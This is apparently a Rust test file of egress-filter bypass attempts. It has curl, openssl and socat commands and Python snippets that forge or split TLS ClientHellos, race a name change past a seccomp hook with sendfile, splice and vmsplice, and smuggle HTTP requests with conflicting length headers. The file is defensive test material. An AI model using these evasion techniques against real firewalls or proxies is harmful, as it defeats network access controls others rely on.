//! Shared addresses: a server with an allowed name and others, reached as one of the others.
//!
//! The policy allows `allowed.test`, whose address is that of `shared.test` too. The handshakes of
//! TCP may reach it; what must not is a ClientHello or a request that another site would answer.

use super::{Attack, Expect, How, Layer, MARK, Proof, attack, v4};
use crate::addresses::{ALLOWED, CDN};

const SNI: Expect = Expect::Violation("sni");
const HOST: Expect = Expect::Violation("host-header");

/// Words that reach port 443 as `shared.test`.
const fn tls(name: &'static str, words: &'static [&'static str]) -> Attack {
    let proof = Proof::Carrying(b"shared.test");
    attack(name, Layer::ServerName, How::Words(words), proof, SNI)
}

/// A script that sends a ClientHello of its own making, whose random bytes are the mark.
const fn hello(name: &'static str, script: &'static str) -> Attack {
    attack(name, Layer::ServerName, How::Python(script), MARK, SNI)
}

/// As [`hello`], in pieces: all of them together are what must not arrive.
const fn pieces(name: &'static str, script: &'static str) -> Attack {
    attack(
        name,
        Layer::ServerName,
        How::Python(script),
        Proof::Carrying(b"shared.test"),
        SNI,
    )
}

/// Sends a ClientHello from memory that the socket shares, and changes its name when it is sent:
/// what the hook has read is not what leaves. `send` is the way of sending.
macro_rules! changing {
    ($name:literal, $send:literal) => {
        attack(
            $name,
            Layer::Seccomp,
            How::Python(concat!(
                $send,
                "
import mmap
data = record(hello(server_name('allowed.test')))
at = data.index(b'allowed.test')
file = open('page', 'w+b')
file.write(data)
file.flush()
page = mmap.mmap(file.fileno(), 0)
ip = socket.gethostbyname('allowed.test')
for _ in range(100):
    page[at:at + 12] = b'allowed.test'
    s = socket.create_connection((ip, 443), 5)
    send(s, page, file, len(data))
    page[at:at + 12] = b'blocked.test'
    s.settimeout(0.02)
    try: s.recv(1)
    except OSError: pass
    s.close()
"
            )),
            Proof::Carrying(b"blocked.test"),
            Expect::Nothing("the system call fails"),
        )
    };
}

/// A script that sends requests to port 80, the mark in those that must not arrive.
const fn request(name: &'static str, script: &'static str) -> Attack {
    attack(name, Layer::HostHeader, How::Python(script), MARK, HOST)
}

/// As [`request`], in pieces: the header field is what must not arrive.
const fn header(name: &'static str, script: &'static str) -> Attack {
    let proof = Proof::Carrying(b"Host: shared.test\r\n");
    attack(name, Layer::HostHeader, How::Python(script), proof, HOST)
}

pub(super) const ATTACKS: &[Attack] = &[
    tls("another_name_at_an_allowed_address", &[
        "curl", "-sS", "-4", "-m", "5", "--connect-to", "shared.test:443:allowed.test:443", "https://shared.test/",
    ]),
    tls("another_name_over_ipv6", &[
        "curl", "-sS", "-6", "-m", "5", "--connect-to", "shared.test:443:allowed.test:443", "https://shared.test/",
    ]),
    tls("another_name_over_http2", &[
        "curl", "-sS", "-m", "5", "--http2", "--connect-to", "shared.test:443:allowed.test:443", "https://shared.test/",
    ]),
    tls("another_name_over_tls_1_2", &[
        "curl", "-sS", "-m", "5", "--tls-max", "1.2", "--connect-to", "shared.test:443:allowed.test:443", "https://shared.test/",
    ]),
    tls("another_name_by_resolve", &[
        "sh", "-c", "getent ahostsv4 allowed.test; curl -sS -m 5 --resolve shared.test:443:198.51.100.10 https://shared.test/",
    ]),
    tls("another_name_by_openssl", &[
        "timeout", "5", "openssl", "s_client", "-brief", "-connect", "allowed.test:443", "-servername", "shared.test",
    ]),
    tls("another_name_in_data_of_a_syn", &[
        "curl", "-sS", "-4", "-m", "5", "--tcp-fastopen", "--connect-to", "shared.test:443:allowed.test:443", "https://shared.test/",
    ])
    .prepare("echo 5 > /proc/sys/net/ipv4/tcp_fastopen"),
    tls("another_name_after_an_allowed_one", &[
        "curl", "-sS", "-m", "5", "https://allowed.test/", "--next", "-sS", "-m", "5", "--connect-to",
        "shared.test:443:allowed.test:443", "https://shared.test/",
    ]),
    tls("another_name_at_an_aliass_target", &[
        "curl", "-sS", "-4", "-m", "5", "--connect-to", "shared.test:443:alias.allowed.test:443", "https://shared.test/",
    ])
    .policy("
version: 1
jobs: {default: {allow: [{host: alias.allowed.test}]}}
"),
    attack(
        "the_name_of_an_aliass_target",
        Layer::ServerName,
        How::Words(&[
            "curl", "-sS", "-4", "-m", "5", "--connect-to", "cdn.other.test:443:alias.allowed.test:443",
            "https://cdn.other.test/",
        ]),
        Proof::Payload(v4(CDN), 443),
        SNI,
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: alias.allowed.test}]}}
"),
    attack(
        "a_tls_tunnel_to_another_name_by_socat",
        Layer::ServerName,
        How::Words(&["socat", "-T3", "EXEC:id", "OPENSSL:allowed.test:443,verify=0,snihost=shared.test"]),
        Proof::Carrying(b"shared.test"),
        SNI,
    ),
    attack(
        "no_name_by_openssl",
        Layer::ServerName,
        How::Words(&["timeout", "5", "openssl", "s_client", "-4", "-brief", "-connect", "allowed.test:443", "-noservername"]),
        Proof::Payload(v4(ALLOWED), 443),
        SNI,
    ),
    hello("no_name", "talk(record(hello()), port=443)"),
    hello("an_empty_name", "talk(record(hello(server_name(''))), port=443)"),
    hello("an_empty_list_of_names", "talk(record(hello(server_name())), port=443)"),
    hello("an_address_as_a_name", "talk(record(hello(server_name('198.51.100.10'))), port=443)"),
    hello("two_names", "talk(record(hello(server_name('allowed.test', 'shared.test'))), port=443)"),
    hello("two_names_the_other_first", "talk(record(hello(server_name('shared.test', 'allowed.test'))), port=443)"),
    hello("two_lists_of_names", "talk(record(hello(server_name('allowed.test'), server_name('shared.test'))), port=443)"),
    hello("a_name_of_another_type", "
entry = b'\\1' + vector(b'shared.test', 2)
talk(record(hello(extension(0, vector(entry, 2)))), port=443)
"),
    hello("a_name_with_a_zero_byte", "talk(record(hello(server_name('allowed.test\\0.shared.test'))), port=443)"),
    hello("a_name_that_ends_in_an_allowed_one", "talk(record(hello(server_name('notallowed.test'))), port=443)"),
    hello("a_name_below_an_allowed_one", "talk(record(hello(server_name('x.allowed.test'))), port=443)"),
    hello("a_name_that_an_allowed_one_begins", "talk(record(hello(server_name('allowed.test.shared.test'))), port=443)"),
    hello("the_suffix_of_an_allowed_name", "talk(record(hello(server_name('test'))), port=443)"),
    hello("a_name_longer_than_names_are", "talk(record(hello(server_name('a' * 300 + '.allowed.test'))), port=443)"),
    hello("an_encrypted_name_behind_one_that_is_not_allowed", "
inner = b'\\0' + struct.pack('!HHB', 1, 1, 7) + vector(os.urandom(32), 2) + vector(os.urandom(200), 2)
talk(record(hello(server_name('cloud.shared.test'), extension(0xfe0d, inner))), port=443)
"),
    hello("a_name_behind_many_extensions", "
many = [extension(0x5a5a + index, b'') for index in range(200)]
talk(record(hello(*many, server_name('shared.test'))), port=443)
"),
    pieces("a_name_behind_a_long_extension", "
data = record(hello(extension(21, bytes(9000)), server_name('shared.test')))
middle = data.index(b'shared') - 99
talk(data[:middle], data[middle:], port=443)
"),
    pieces("a_name_split_over_two_segments", "
data = record(hello(server_name('shared.test')))
middle = data.index(b'shared') + 3
talk(data[:middle], data[middle:], port=443)
"),
    pieces("a_hello_split_into_bytes", "
data = record(hello(server_name('shared.test')))
talk(*(data[index:index + 1] for index in range(len(data))), port=443, pause=0.002)
"),
    pieces("a_hello_whose_first_segment_is_one_byte", "
data = record(hello(server_name('shared.test')))
talk(data[:1], data[1:], port=443)
"),
    attack(
        "a_name_split_over_two_records",
        Layer::ServerName,
        How::Python("
data = hello(server_name('shared.test'))
middle = data.index(b'shared') + 3
talk(record(data[:middle]) + record(data[middle:]), port=443)
"),
        MARK,
        SNI,
    ),
    pieces("a_second_record_in_a_segment_of_its_own", "
data = hello(server_name('shared.test'))
middle = data.index(b'shared') - 3
talk(record(data[:middle]), record(data[middle:]), port=443)
"),
    hello("a_hello_that_says_it_is_shorter", "
data = hello(server_name('shared.test'))
talk(record(data[:1] + vector(b'', 3) + data[4:]), port=443)
"),
    hello("a_hello_after_an_alert", "
talk(record(b'\\1\\0', kind=21) + record(hello(server_name('shared.test'))), port=443)
"),
    hello("a_hello_after_an_empty_record", "
talk(record(b'') + record(hello(server_name('shared.test'))), port=443)
"),
    hello("a_hello_as_in_ssl_2", "
hello = b'\\1\\3\\3' + struct.pack('!HHH', 3, 0, 32) + b'\\0\\0\\x2f' + MARK.ljust(32, b'.')
talk(bytes([0x80, len(hello)]) + hello, port=443)
"),
    hello("application_data_without_a_hello", "talk(record(MARK, kind=23), port=443)"),
    hello("an_ssh_banner_on_the_tls_port", "talk(b'SSH-2.0-' + MARK + b'\\r\\n', port=443)"),
    hello("a_web_request_on_the_tls_port", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test'), port=443)
"),
    hello("one_byte_then_silence_then_data", "talk(b'\\x16', b'\\0' + MARK, port=443, pause=0.5)"),
    hello("urgent_data_before_a_hello", "
ip = socket.gethostbyname('allowed.test')
with socket.create_connection((ip, 443), 5) as s:
    s.send(b'\\x16', socket.MSG_OOB)
    s.sendall(record(hello(server_name('shared.test'))))
    s.settimeout(2)
    s.recv(99)
"),
    pieces("a_second_hello_in_the_same_record", "
talk(record(hello(server_name('allowed.test')) + hello(server_name('shared.test'))), port=443)
"),
    pieces("a_second_hello_in_a_record_of_its_own", "
talk(record(hello(server_name('allowed.test'))) + record(hello(server_name('shared.test'))), port=443)
"),
    pieces("a_second_hello_that_the_server_asks_for", "
# Without a key share the server answers with a HelloRetryRequest (RFC 8446 section 4.1.4).
without = hello(server_name('allowed.test')).replace(extension(51, vector(b'', 2))[:2], b'\\x5a\\x5a')
talk(record(without), record(hello(server_name('shared.test'))), port=443, pause=0.2)
"),
    pieces("a_second_hello_of_an_odd_version", "
without = hello(server_name('allowed.test')).replace(extension(51, vector(b'', 2))[:2], b'\\x5a\\x5a')
second = hello(server_name('shared.test'))
talk(record(without), record(second[:4] + b'\\4' + second[5:]), port=443, pause=0.2)
"),
    pieces("a_second_hello_behind_a_warning", "
without = hello(server_name('allowed.test')).replace(extension(51, vector(b'', 2))[:2], b'\\x5a\\x5a')
warning = record(b'\\1\\x5a', 21)
talk(record(without), warning + record(hello(server_name('shared.test'))), port=443, pause=0.2)
"),
    hello("an_encrypted_name_behind_an_allowed_one", "
inner = b'\\0' + struct.pack('!HHB', 1, 1, 7) + vector(os.urandom(32), 2) + vector(os.urandom(200), 2)
talk(record(hello(server_name('allowed.test'), extension(0xfe0d, inner))), port=443)
"),
    changing!("a_name_that_changes_after_sendfile", "
def send(s, page, file, length): os.sendfile(s.fileno(), file.fileno(), 0, length)
"),
    changing!("a_name_that_changes_after_splice", "
def send(s, page, file, length):
    reader, writer = os.pipe()
    os.splice(file.fileno(), writer, length, offset_src=0)
    os.splice(reader, s.fileno(), length)
    os.close(reader); os.close(writer)
"),
    changing!("a_name_that_changes_after_vmsplice", "
def send(s, page, file, length):
    reader, writer = os.pipe()
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    check(libc.vmsplice(writer, struct.pack('PN', start, length), 1, 0))
    check(libc.splice(reader, None, s.fileno(), None, length, 0))
    os.close(reader); os.close(writer)
"),
    attack(
        "tls_on_another_allowed_port",
        Layer::ServerName,
        How::Words(&[
            "curl", "-sS", "-4", "-m", "5", "--connect-to", "shared.test:8443:allowed.test:8443",
            "https://shared.test:8443/",
        ]),
        Proof::Carrying(b"shared.test"),
        SNI,
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: allowed.test, ports: [8443]}]}}
"),

    attack(
        "another_host_by_curl",
        Layer::HostHeader,
        How::Words(&["curl", "-sS", "-m", "5", "-H", "Host: shared.test", "http://allowed.test/jobfence-secret"]),
        MARK,
        HOST,
    ),
    attack(
        "another_host_over_ipv6",
        Layer::HostHeader,
        How::Words(&["curl", "-sS", "-6", "-m", "5", "-H", "Host: shared.test", "http://allowed.test/jobfence-secret"]),
        MARK,
        HOST,
    ),
    attack(
        "another_host_by_connect_to",
        Layer::HostHeader,
        How::Words(&[
            "curl", "-sS", "-4", "-m", "5", "--connect-to", "shared.test:80:allowed.test:80",
            "http://shared.test/jobfence-secret",
        ]),
        MARK,
        HOST,
    ),
    attack(
        "another_host_through_an_allowed_proxy",
        Layer::HostHeader,
        How::Words(&["curl", "-sS", "-m", "5", "-x", "http://allowed.test:80", "http://shared.test/jobfence-secret"]),
        MARK,
        HOST,
    ),
    attack(
        "a_tunnel_through_an_allowed_proxy",
        Layer::HostHeader,
        How::Words(&["curl", "-sS", "-m", "5", "-p", "-x", "http://allowed.test:80", "https://shared.test/"]),
        Proof::Carrying(b"CONNECT shared.test:443"),
        HOST,
    ),
    request("another_host", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test'), port=80)
"),
    request("another_host_with_a_port", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test:80'), port=80)
"),
    request("another_host_behind_a_user", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test@shared.test'), port=80)
"),
    request("another_host_behind_a_zero_byte", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test\\0.shared.test'), port=80)
"),
    request("a_host_that_an_allowed_one_begins", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test.shared.test'), port=80)
"),
    request("an_address_as_a_host", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: 198.51.100.10'), port=80)
"),
    request("no_host", "talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Accept: */*'), port=80)"),
    // The last byte is what is wrong, and what TCP sends again ends with it.
    request("a_refused_request_that_is_sent_again", "
ip = socket.gethostbyname('allowed.test')
end = 0x80  # MSG_EOR: nothing is added to the segment
for _ in range(20):
    with socket.create_connection((ip, 80), 5) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            for piece in [b'GET /' + MARK + b' HTTP/1.0\\r\\n\\r\\n', b'x', b'x', b'x']: s.send(piece, end)
            s.settimeout(0.3)
            s.recv(99)
        except OSError: pass
"),
    request("a_length_with_urgent_data", "
ip = socket.gethostbyname('allowed.test')
with socket.create_connection((ip, 80), 5) as s:
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(b'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5')
    s.send(b'0', socket.MSG_OOB)
    time.sleep(0.05)
    s.sendall(b'\\r\\n\\r\\n' + b'12345' + request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test'))
    s.settimeout(2)
    s.recv(99)
"),
    request("no_host_in_http_1_0", "talk(request('GET /' + MARK.decode() + ' HTTP/1.0'), port=80)"),
    request("an_empty_host", "talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host:'), port=80)"),
    request("a_request_of_http_0_9", "talk(b'GET /' + MARK + b'\\r\\n', port=80)"),
    request("two_hosts", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test', 'Host: shared.test'), port=80)
"),
    request("two_hosts_in_one_field", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test, shared.test'), port=80)
"),
    request("a_space_before_the_colon_of_a_second_host", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host : shared.test', 'Host: allowed.test'), port=80)
"),
    request("a_folded_host", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test', ' .shared.test'), port=80)
"),
    request("a_host_folded_from_the_start", "
talk(request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host:', ' shared.test'), port=80)
"),
    request("lines_without_a_carriage_return", "
talk(b'GET /' + MARK + b' HTTP/1.1\\nHost: shared.test\\n\\n', port=80)
"),
    request("empty_lines_before_a_request", "
talk(b'\\r\\n\\r\\n' + request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test'), port=80)
"),
    request("a_target_with_another_host", "
talk(request('GET http://shared.test/' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test'), port=80)
"),
    request("a_target_with_a_user_before_another_host", "
talk(request('GET http://allowed.test@shared.test/' + MARK.decode() + ' HTTP/1.1', 'Host: allowed.test'), port=80)
"),
    request("connect_to_another_host", "
talk(request('CONNECT shared.test:443 HTTP/1.1', 'Host: allowed.test', 'X: ' + MARK.decode()), port=80)
"),
    request("another_host_on_a_kept_alive_connection", "
first = request('GET / HTTP/1.1', 'Host: allowed.test', 'Connection: keep-alive')
second = request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test')
talk(first, second, port=80, pause=0)
"),
    request("another_host_in_the_same_segment", "
first = request('GET / HTTP/1.1', 'Host: allowed.test', 'Connection: keep-alive')
talk(first + request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test'), port=80)
"),
    request("another_host_after_a_body", "
first = request('POST / HTTP/1.1', 'Host: allowed.test', 'Content-Length: 5') + b'12345'
talk(first + request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test'), port=80)
"),
    request("another_host_after_a_chunked_body", "
first = request('POST / HTTP/1.1', 'Host: allowed.test', 'Transfer-Encoding: chunked') + b'3\\r\\nabc\\r\\n0\\r\\n\\r\\n'
talk(first + request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test'), port=80)
"),
    request("a_request_behind_a_field_like_transfer_encoding", "
first = request('POST / HTTP/1.1', 'Host: allowed.test', 'Xransfer-Encoding: chunked')
second = request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test')
talk(first + b'ff\\r\\n' + second, port=80)
"),
    request("a_request_smuggled_by_two_lengths", "
second = request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test')
first = request('POST / HTTP/1.1', 'Host: allowed.test', f'Content-Length: {len(second) + 5}', 'Transfer-Encoding: chunked')
talk(first + b'0\\r\\n\\r\\n' + second, port=80)
"),
    request("a_request_smuggled_by_two_content_lengths", "
second = request('GET /' + MARK.decode() + ' HTTP/1.1', 'Host: shared.test')
talk(request('POST / HTTP/1.1', 'Host: allowed.test', 'Content-Length: 0', f'Content-Length: {len(second)}') + second, port=80)
"),
    header("a_host_split_over_two_segments", "
data = request('GET / HTTP/1.1', 'Host: shared.test')
middle = data.index(b'shared') + 3
talk(data[:middle], data[middle:], port=80)
"),
    header("a_head_split_into_bytes", "
data = request('GET / HTTP/1.1', 'Host: shared.test')
talk(*(data[index:index + 1] for index in range(len(data))), port=80, pause=0.002)
"),
    header("a_host_behind_a_long_head", "
talk(request('GET / HTTP/1.1', 'X: ' + 'x' * 20000)[:-2], request('Host: shared.test'), port=80)
"),
    header("a_second_host_behind_a_long_head", "
talk(request('GET / HTTP/1.1', 'Host: allowed.test', 'X: ' + 'x' * 20000)[:-2], request('Host: shared.test'), port=80)
"),
    attack(
        "http_2_without_an_upgrade",
        Layer::HostHeader,
        How::Words(&["curl", "-sS", "-4", "-m", "2", "--http2-prior-knowledge", "http://allowed.test/"]),
        Proof::Payload(v4(ALLOWED), 80),
        HOST,
    ),
    request("http_2_after_an_upgrade", "
first = request('GET / HTTP/1.1', 'Host: allowed.test', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAA')
talk(first, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + MARK, port=80)
"),
    request("an_ssh_banner_on_the_web_port", "talk(b'SSH-2.0-' + MARK + b'\\r\\n', port=80)"),
    request("a_client_hello_on_the_web_port", "talk(record(hello(server_name('allowed.test'))), port=80)"),
    request("binary_data_on_the_web_port", "talk(bytes(range(256)) + MARK, port=80)"),
    header("another_host_in_data_of_a_syn", "
ip = socket.gethostbyname('allowed.test')
s = socket.socket()
s.settimeout(2)
s.sendto(request('GET / HTTP/1.1', 'Host: shared.test'), 0x20000000, (ip, 80))  # MSG_FASTOPEN
s.recv(99)
")
    .prepare("echo 5 > /proc/sys/net/ipv4/tcp_fastopen"),
    header("another_host_on_another_port_with_http_verify", "
talk(request('GET / HTTP/1.1', 'Host: shared.test'), port=8000)
")
    .policy("
version: 1
jobs: {default: {allow: [{host: allowed.test, ports: [8000], http: verify}]}}
"),
];
